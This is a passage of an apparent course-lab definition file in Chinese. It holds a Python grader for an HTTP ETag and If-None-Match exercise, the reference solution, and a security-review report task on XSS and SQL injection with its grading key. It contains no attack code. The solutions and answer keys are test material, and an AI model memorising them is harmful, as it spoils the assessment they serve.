                                return type(error).__name__ + ': ' + str(error)
                        first = show(b'hello', {})
                        tag = first[1].get('etag', '') if isinstance(first, list) else ''
                        asked = ['"zzz"', tag, 'W/' + tag, '"a", ' + tag + ' , "b"', '*', tag.strip('"') + 'x']
                        print(json.dumps([first, show(b'other', {}), [show(b'hello', {'if-none-match': one}) for one in asked]]))
                        ''')
                        results = [run(['python3', '-c', harness], cwd=HOME) for _ in range(2)]
                        if results[0].returncode != 0:
                            fail('无法从 cached.py 导入 respond：' + tail(results[0].stderr, 1))
                        (first, other, asked), (again, _, _) = [json.loads(result.stdout.splitlines()[-1]) for result in results]
                        for value in (first, other, *asked):
                            if isinstance(value, str):
                                fail(f'respond 抛出了异常：{value}')
                        tag = first[1].get('etag', '')
                        judge([
                            (first[0] == 200 and first[3], f'没有条件时应返回 200 和完整正文，实际状态码 {first[0]}'),
                            (len(tag) > 2 and tag[0] == tag[-1] == '"', f'ETag 应带双引号，实际为 {tag or "（没有）"}'),
                            (first[1].get('content-length') == '5', f'Content-Length 应为 5，实际为 {first[1].get("content-length")}'),
                            (first[1].get('cache-control') == 'no-cache', f'Cache-Control 应为 no-cache，实际为 {first[1].get("cache-control")}'),
                            (tag != other[1].get('etag'), '内容不同，ETag 却相同'),
                            (tag == again[1].get('etag'), '重新启动后同样的内容得到了不同的 ETag，请不要使用 hash()'),
                            (asked[0][0] == 200, '标签不同时应返回 200'),
                            (asked[1][0] == 304 and asked[1][2] == 0, f'标签相同时应返回 304 且没有正文，实际状态码 {asked[1][0]}'),
                            (asked[1][1].get('etag') == tag, '304 响应也应带 ETag'),
                            (asked[2][0] == 304, '带 W/ 前缀的标签应视为相同'),
                            (asked[3][0] == 304, '多个标签中有一个相同，就应返回 304'),
                            (asked[4][0] == 304, 'If-None-Match: * 应返回 304'),
                            (asked[5][0] == 200, '只是相似的标签不应视为相同，比较要完整'),
                        ], '通过：没有变化就不必重传')
          `),
          solve: block`
                        cat > ~/cached.py <<'PY'
                        """带条件请求的响应。"""
                        import hashlib


                        def respond(content, request_headers):
                            tag = '"' + hashlib.sha256(content).hexdigest()[:16] + '"'
                            asked = [one.strip().removeprefix('W/') for one in request_headers.get('if-none-match', '').split(',')]
                            if tag in asked or '*' in asked:
                                return 304, {'ETag': tag, 'Cache-Control': 'no-cache'}, b''
                            headers = {'ETag': tag, 'Cache-Control': 'no-cache', 'Content-Length': str(len(content))}
                            return 200, headers, content
                        PY
          `,
        },
        {
          key: 'report',
          title: '实验报告：一次小型安全评审',
          kind: 'report',
          points: 10,
          body: block`
                        ## 要求

                        社团网站下周上线，请提交一份评审报告：

                        1. **攻击复现**（4 分）：各用一个例子说明 XSS 与 SQL 注入修复前怎样成功、修复后为什么失败。附上命令与输出。
                        2. **共同根源**（2 分）：这两种漏洞的根本原因是什么？用一句话概括，并说明转义和参数化为什么都治本。
                        3. **接口约定**（2 分）：贴出 \`curl -i\` 对一次成功和一次失败请求的完整响应，指出状态码、响应头、正文各传达了什么。
                        4. **上线清单**（2 分）：列出上线前还要做的四件事，例如 HTTPS、密码存储、备份、日志。

                        提醒：报告中的攻击只能在本实验环境里进行。
          `,
          answer: block`
                        - 攻击复现：两个例子各 2 分，须有修复前后的对照。
                        - 共同根源：**把数据当成了代码**。转义保证数据在 HTML 里只是文字，参数化保证数据在 SQL 里只是值。
                        - 接口约定：能说明 201 与 \`Location\` 的关系，400/409 让调用者知道如何改正。
                        - 上线清单：HTTPS；密码改用带盐的慢哈希（如 scrypt、argon2）；限制登录频率；定期备份并演练恢复；记录但不泄露敏感信息的日志。
          `,
        },
      ],
    },
  ],
}
